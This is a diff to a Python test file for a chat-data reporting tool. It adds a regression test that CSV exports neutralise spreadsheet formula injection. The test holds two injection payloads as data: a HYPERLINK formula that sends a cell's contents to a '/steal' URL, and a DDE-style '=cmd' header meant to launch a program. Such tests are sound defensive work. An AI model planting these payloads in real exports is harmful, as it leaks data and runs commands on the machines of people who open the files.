@@ -26,7 +26,7 @@ from zoneinfo import ZoneInfo
 import pandas as pd
 import pytest
 
-from maxchat_data import NotAllowed, ValidationError, labels, reports
+from maxchat_data import NotAllowed, ValidationError, csv_safe, labels, reports
 from maxchat_data.reports import ReportFilter
 
 pytestmark = pytest.mark.both_backends
@@ -223,7 +223,7 @@ def words(col: pd.Series) -> list[str]:
 def test_csv_and_parquet_downloads_hold_the_table(store, history):
     r = report(store)
     for name, table in r.tables().items():
-        back = pd.read_csv(io.BytesIO(reports.csv_bytes(table)))
+        back = pd.read_csv(io.BytesIO(csv_safe.csv_bytes(table)))
         shown = table.reset_index() if table.index.name else table
         assert list(back.columns) == list(shown.columns), name
         assert len(back) == len(shown), name
@@ -234,6 +234,31 @@ def test_csv_and_parquet_downloads_hold_the_table(store, history):
                 assert words(back[col]) == words(shown[col]), (name, col)
         again = pd.read_parquet(io.BytesIO(reports.parquet_bytes(table)))
         pd.testing.assert_frame_equal(again, shown.reset_index(drop=True), check_dtype=False), name
+
+
+def test_csv_downloads_never_hand_a_spreadsheet_a_formula(store, history):
+    """Issue 17: a customer named =HYPERLINK(...) came out of the sessions
+    CSV as a live formula. Text cells starting with = + - @ tab or CR get a
+    quote in front; numbers, negative ones too, stay numbers."""
+    import csv
+    evil = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Invoice")'
+    store.write(lambda w: w.execute("UPDATE chats SET contact_name = ? WHERE id = (SELECT min(id) FROM chats)",
+                                    [evil]))
+    odd = labels.create_label(store, "@SUM(1+1)", labels.PALETTE["Purple"], history["admin"])
+    labels.set_label(store, store.one("SELECT min(id) FROM chats")[0], odd, True, history["admin"])
+    sessions = report(store).sessions()
+    rows = list(csv.reader(io.StringIO(csv_safe.csv_bytes(sessions).decode())))
+    cells = [c for row in rows for c in row]
+    assert "'" + evil in cells and evil not in cells
+    assert not any(c.startswith(csv_safe.FORMULA_START) for c in cells), [
+        c for c in cells if c.startswith(csv_safe.FORMULA_START)]
+    by_label = report(store).by_label()
+    assert "'@SUM(1+1)" in csv_safe.csv_bytes(by_label).decode()  # the named index (a table's first column) too
+    # A query's own columns: a negative number stays a number, the same text gets its quote, headers too.
+    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [-5, 7], "note": ["-5", "+62 812"], "at": pd.to_datetime(
+        ["2024-01-01", "2024-01-02"]), "x": [-1.5, None]})
+    assert csv_safe.csv_bytes(frame).decode().splitlines() == [
+        "'=cmd|' /C calc'!A0,note,at,x", "-5,'-5,2024-01-01,-1.5", "7,'+62 812,2024-01-02,"]
 
 
 def test_the_session_export_has_one_row_per_session(store, history):
